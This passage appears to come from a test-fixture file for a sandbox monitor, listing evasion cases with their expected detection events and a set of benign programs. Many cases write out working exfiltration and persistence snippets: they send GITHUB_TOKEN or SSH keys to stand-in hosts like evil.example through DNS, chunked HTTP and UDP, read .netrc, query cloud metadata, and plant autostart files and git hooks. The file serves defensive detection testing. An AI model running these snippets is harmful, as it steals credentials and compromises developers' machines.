    ...["import struct", QUESTION, "t=os.environ['GITHUB_TOKEN'].encode()"],
    "option=struct.pack('!HH',65001,len(t))+t",
    "send(question(b'www',b'example',more=1)+b'\\0'+struct.pack('!HHIH',41,4096,0,len(option))+option)",
  ),
  python(
    "puts a secret behind 255 characters of a name",
    { deeds: [`sent_canary $GITHUB_TOKEN to 8.8.8.8:53 (as ${"a".repeat(63)}.example)`] },
    ...[QUESTION, "t=os.environ['GITHUB_TOKEN'].encode()"],
    "send(question(b'0',*[b'a'*63]*4,t,b'a'*63,b'example'))",
  ),
  python(
    "spreads a secret over the numbers of questions",
    { deeds: ["sent_canary $GITHUB_TOKEN to 8.8.8.8:53"] },
    ...[QUESTION, "t=os.environ['GITHUB_TOKEN'].encode()"],
    "for i in range(0,len(t),2): send(t[i:i+2]+question(b'www',b'example')[2:])",
  ),
  python(
    "sends a secret in short chunks of a body",
    { deeds: ["sent_canary $GITHUB_TOKEN to 93.184.216.34:80 (as evil.example)"] },
    "t=os.environ['GITHUB_TOKEN'].encode()",
    "s=socket.create_connection(('93.184.216.34',80),2)",
    "s.sendall(b'POST /u HTTP/1.1\\r\\nHost: evil.example\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n')",
    "for i in range(0,len(t),9): s.sendall(b'%x\\r\\n%s\\r\\n'%(len(t[i:i+9]),t[i:i+9]))",
    ...["s.sendall(b'0\\r\\n\\r\\n')", "s.recv(99)"],
  ),
  python(
    "sends a secret in a chunk for each character, over TLS",
    { deeds: ["sent_canary $GITHUB_TOKEN to evil.example:443"] },
    "import http.client",
    "h=http.client.HTTPSConnection('evil.example')",
    "body=(c.encode() for c in os.environ['GITHUB_TOKEN'])",
    "h.request('POST','/u',body=body,encode_chunked=True,headers={'Transfer-Encoding':'chunked'})",
    "h.getresponse().read()",
  ),
  shell(
    "writes what others start later",
    {
      deeds: [".config/plasma-workspace/env/x.sh", ".config/Claude/claude_desktop_config.json", "bin/git"]
        .concat(
          "src/app/.git/hooks/post-checkout",
          "src/app/.vscode/tasks.json",
          ".local/share/fish/vendor_conf.d/x.fish",
        )
        .map((path) => `wrote_outside /home/dev/${path}`),
    },
    "for f in .config/plasma-workspace/env/x.sh .config/Claude/claude_desktop_config.json bin/git \\",
    "  src/app/.git/hooks/post-checkout src/app/.vscode/tasks.json .local/share/fish/vendor_conf.d/x.fish; do",
    'mkdir -p "$(dirname $f)"; echo evil > "$f"; done',
  ),
  shell(
    "names a start-up file like a cache of Python",
    { deeds: ["wrote_outside /home/dev/.config/autostart/__pycache__evil.desktop"] },
    "mkdir -p .config/autostart; echo evil > .config/autostart/__pycache__evil.desktop",
  ),
  shell(
    "reads logins with a part of git that does not use them",
    { deeds: ["read_canary ~/.netrc"] },
    "git diff --no-index /dev/null .netrc > /tmp/x || true",
  ),
  shell(
    "reads logins with a tool that uses them, by their name",
    { deeds: ["read_canary ~/.netrc"] },
    'curl -s "file://$HOME/.netrc" -o /tmp/x',
  ),
  python(
    "sends a secret in parts to one host",
    { deeds: ["sent_canary $GITHUB_TOKEN to evil.example:80"] },
    "import urllib.request",
    "T=os.environ['GITHUB_TOKEN']",
    "for i in range(0,len(T),3): urllib.request.urlopen('http://evil.example/g?n=%d&d=%s'%(i,T[i:i+3]),timeout=5).read()",
  ),
  python(
    "sends a secret in parts to one host, encrypted",
    { deeds: ["sent_canary $GITHUB_TOKEN to evil.example:443"] },
    "import urllib.request",
    "T=os.environ['GITHUB_TOKEN'].encode()",
    "for i in range(0,len(T),10): urllib.request.urlopen('https://evil.example/g',data=T[i:i+10],timeout=5).read()",
  ),
  python(
    "sends a secret in parts to many hosts",
    { deeds: [8, 16, 24, 32].map((part) => `sent_canary $GITHUB_TOKEN to evil${part}.example:80, in parts`) },
    "import urllib.request",
    "T=os.environ['GITHUB_TOKEN']",
    "for i in range(0,len(T),8): urllib.request.urlopen('http://evil%d.example/g?d=%s'%(i,T[i:i+8]),timeout=5).read()",
  ),
  python(
    "asks for numbered parts of a secret in disorder",
    { deeds: ["sent_canary $GITHUB_TOKEN to evil.com"] },
    "h=os.environ['GITHUB_TOKEN'].encode().hex()",
    "for i in sorted(range(0,len(h),6),key=lambda i:i%7):",
    "  try: socket.gethostbyname('%03d-%s.evil.com'%(i,h[i:i+6]))",
    "  except OSError: pass",
  ),
  python(
    "sends small datagrams to one address",
    { deeds: ["sent_canary $GITHUB_TOKEN to 198.51.100.9:7000"] },
    "T=os.environ['GITHUB_TOKEN'].encode(); s=socket.socket(2,2)",
    "for i in range(0,len(T),4): s.sendto(T[i:i+4],('198.51.100.9',7000))",
  ),
  python(
    "writes to a connected datagram socket",
    { beyond: ["network"] },
    "s=socket.socket(2,2); s.connect(('198.51.100.9',7000)); os.write(s.fileno(),os.environ['GITHUB_TOKEN'].encode())",
  ),
  python(
    "asks for the metadata of the machine through a proxy",
    { deeds: ["asked_metadata 169.254.169.254"] },
    "s=socket.create_connection(('1.2.3.4',80),5)",
    "s.sendall(b'GET http://169.254.169.254/latest/ HTTP/1.1\\r\\nHost: x.example\\r\\n\\r\\n'); s.recv(99)",
  ),
  shell(
    "reads logins in a child while a tool runs that uses them",
    { deeds: ["read_canary ~/.npmrc"] },
    "npm --version > /dev/null & (read -r line < .npmrc; echo $line > /tmp/x); wait; (read -r line < .npmrc; echo $line > /tmp/x)",
  ),
  shell(
    "names another host than the one that it sends to",
    { deeds: ["sent_canary ~/.ssh/id_rsa to 203.0.113.9:80 (as api.github.com)"] },
    "curl -s --data-binary @.ssh/id_rsa -H 'Host: api.github.com' http://203.0.113.9/u",
  ),
  shell(
    "puts other letters between those of a secret",
    { deeds: ["sent_canary ~/.ssh/id_rsa to evil.example:80"] },
    "sed 's/./&,/g' .ssh/id_rsa | curl -s --data-binary @- http://evil.example/u",
  ),
  shell(
    "puts a word before each part of a secret",
    { deeds: ["sent_canary ~/.ssh/id_rsa to evil.example:80"] },
    "fold -w5 .ssh/id_rsa | sed 's/^/x=/' | curl -s --data-binary @- http://evil.example/u",
  ),
  shell(
    "sends a secret as decimal numbers",
    { deeds: ["sent_canary ~/.ssh/id_rsa to evil.example:80"] },
    "od -An -tu1 -v .ssh/id_rsa | curl -s --data-binary @- http://evil.example/u",
  ),
  shell(
    "sends a secret as hexadecimal numbers with colons",
    { deeds: ["sent_canary ~/.ssh/id_rsa to evil.example:80"] },
    "od -An -tx1 -v .ssh/id_rsa | tr ' ' ':' | curl -s --data-binary @- http://evil.example/u",
  ),
  python(
    "asks for parts of a secret on one connection",
    { deeds: ["sent_canary $GITHUB_TOKEN to 203.0.113.9:80 (as x)"] },
    "T=os.environ['GITHUB_TOKEN']; s=socket.create_connection(('203.0.113.9',80),5)",
    "s.sendall(''.join('GET /%s HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'%T[i:i+5] for i in range(0,len(T),5)).encode()); s.recv(99)",
  ),
  python(
    "sends parts of a secret in turns as they are and backwards",
    { deeds: ["sent_canary $GITHUB_TOKEN to evil0.example:80, in parts"] },
    "import urllib.request",
    "T=os.environ['GITHUB_TOKEN'][4:]",
    "for i in range(0,len(T),9):",
    "  part=T[i:i+9] if i%2 else T[i:i+9][::-1]",
    "  urllib.request.urlopen('http://evil%d.example/g?d=%s'%(i,part),timeout=5).read()",
  ),
  python(
    "asks for the metadata of the machine through a proxy that it tells so in two segments",
    { deeds: ["asked_metadata 169.254.169.254"] },
    "s=socket.create_connection(('1.2.3.4',1080),5); s.sendall(b'\\x04\\x01\\x00\\x50\\xa9\\xfe\\xa9\\xfe\\x00'); time.sleep(0.3)",
  ),
  python(
    "sends one datagram in many pieces and others unseen",
    { beyond: ["network"] },
    "s=socket.socket(2,2); s.connect(('198.51.100.9',7000)); s.sendmsg([b'a']*40)",
    "for _ in range(5):",
    "  try: os.write(s.fileno(),os.environ['GITHUB_TOKEN'].encode())",
    "  except OSError: pass",
  ),
  python(
    "makes a path that is too long to be listed",
    { deeds: ["wrote_outside /home/dev/.bashrc"], beyond: ["paths"] },
    "open('.bashrc','a').write('evil'); os.mkdir('.ssh/locked'); os.chmod('.ssh/locked',0)",
    "for i in range(20): os.mkdir('d'*250); os.chdir('d'*250)",
  ),
];

/** Ordinary programs whose calls leave open where they worked. */
export const ORDINARY: Pick<Evasion, "name" | "path" | "text">[] = [
  shell(
    "has children that end a moment after it",
    {},
    "(sleep 0.4; echo done > $TMPDIR/done) > /dev/null 2>&1 &",
    "echo started",
  ),
  {
    ...{ name: "does not wait for its child", path: "a.cjs" },
    text: "const c=require('child_process').spawn('sleep',['0.5'],{detached:true,stdio:'ignore'});c.unref();setTimeout(()=>{},50)",
  },
  python(
    "posts its own texts in formats that only other programs read",
    {},
    "import bz2,lzma,urllib.request",
    "for data in [lzma.compress(b'own text '*999),bz2.compress(b'own text '*999)]: urllib.request.urlopen('https://a.example/',data)",
  ),
  shell(
    "writes into a folder that it names",
    {},
    'mkdir -p "$HOME/Documents/reports" && echo x > "$HOME/Documents/reports/a.txt"',
    'test -d "$HOME/Documents/reports" || touch /etc/no-folder',
  ),
  python(
    "sends long texts, hashes, pictures and random data",
    {},
    "import hashlib,json,random,urllib.request as u,zlib",
    "def post(d): u.urlopen('http://collect.example/',d).read()",
    "words=['the','report','says','that','customers','wait','longer','than','before','because','orders','came','late','again']",
    "post(' '.join(random.choice(words) for _ in range(20000)).encode())",
    "post(json.dumps([hashlib.sha256(str(i).encode()).hexdigest() for i in range(1500)]).encode())",
    "post(base64.b64encode(os.urandom(150000))); post(zlib.compress(os.urandom(200000)))",
    "for i in range(300): u.urlopen('https://pages.example/%d'%i).read()",
  ),
  shell(
    "asks for programs that may be missing",
    {},
    "command -v jq aws gh docker no-such-tool; no-such-tool --version; constructor; __proto__; systemctl status x; gh pr list; true",
  ),
  python(
    "talks to its own processes over sockets of the machine",
    {},
    "import multiprocessing as m",
    "with m.Manager() as d: d.dict()['a']=1",
    "a=socket.socket(socket.AF_UNIX); a.bind('/tmp/s'); a.listen(); b=socket.socket(socket.AF_UNIX); b.connect('/tmp/s')",
    "b.sendall(b'x'); a.accept()[0].recv(1)",
  ),
  shell("asks an old server", {}, "curl -s --http1.0 https://old.example/ >/dev/null || true"),
  shell(
    "asks who it is",
    {},
    'test "$(id -un)" = dev || touch /etc/not-dev',
    "python3 -c 'import getpass, os, pwd; assert pwd.getpwuid(os.getuid()).pw_dir == os.environ[\"HOME\"]' || touch /etc/no-home",
  ),
  shell(
    "looks into the home before it works elsewhere",
    {},
    "ls > /dev/null; mkdir -p /tmp/r; cd /tmp/r; git init -q .; echo a > a; git add a",
    "git -c user.email=a@b -c user.name=n commit -qm x; tar czf ../x.tgz .; mkdir ../y; cd ../y; tar xzf ../x.tgz; rm -rf .git",
  ),
  shell(
    "renames settings in its own folder",
    {},
    "ls > /dev/null; mkdir -p /tmp/proj; cd /tmp/proj",
    `python3 -c "
import os
os.mkdir('.cfg'); open('.env.tmp','w').write('A=1'); os.rename('.env.tmp','.env'); os.unlink('.env'); os.rmdir('.cfg')"`,
  ),
  python(
    "changes the mode of its own file through a descriptor",
    {},
    "f=os.open('/tmp/q',os.O_RDWR|os.O_CREAT); os.chmod('/proc/self/fd/%d'%f,0o600)",
    "os.chdir('/tmp'); os.chmod('q',0o600,follow_symlinks=False) if os.chmod in os.supports_follow_symlinks else None",
  ),
  shell(
    "finds its own folder before it asks npm",
    {},
    'DIR="$(cd "$(dirname "$0")" && pwd)"; (cd /tmp; :); npm --version > /dev/null; echo "$DIR" | while read -r line; do npm config get cache > /dev/null; done',
  ),
  python(
    "binds ports of its own before it asks hosts that refuse",
    {},
    "for bind, target in ((('127.0.0.1',0),('198.51.100.9',5432)),(('127.0.0.1',8765),('198.51.100.9',8765)),(('',3000),('198.51.100.9',5672))):",
    "  s=socket.socket()",
    "  try: s.bind(bind)",
    "  except OSError: s.close(); s=socket.socket()",
    "  try: socket.socket().connect(target)",
    "  except OSError: pass",
  ),
  shell(
    "pauses in an upload",
    {},
    '(echo a; sleep 6; echo b) | curl -s -T - http://up.example/a; curl -s -n -T "$0" http://up.example/app.js',
  ),
  shell("asks npm for its version and settings", {}, "npm --version > /dev/null; npm config get cache > /dev/null"),
  python(
    "closes its sockets before a name server has answered",
    {},
    "for i in range(30):",
    "  s=socket.socket(2,2); s.sendto(b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\1a\\7example\\0\\0\\1\\0\\1',('10.0.2.3',53)); s.close()",
    "s=socket.socket(2,2); s.sendto(b'',('198.51.100.9',7000))",
  ),
  shell(
    "posts lines of a log",
    {},
    'for i in $(seq 12); do seq 40 | sed \'s/.*/{"id":"0123456789abcdef0123456789abcdef01234567&","level":"info"}/\' | curl -s --data-binary @- http://logs.example/in; done',
  ),
  python(
    "sends datagrams to a port that is not served",
    {},
    "s=socket.socket(2,2); s.sendto(b'hello',('198.51.100.9',7000)); s.connect(('198.51.100.8',7001)); s.send(b'again')",
  ),
  python(
    "makes a folder in a child",
    {},
    "os.chdir('/tmp')",
    "if os.fork() == 0: os.mkdir('made'); os._exit(0)",
    "os.wait()",
  ),
];
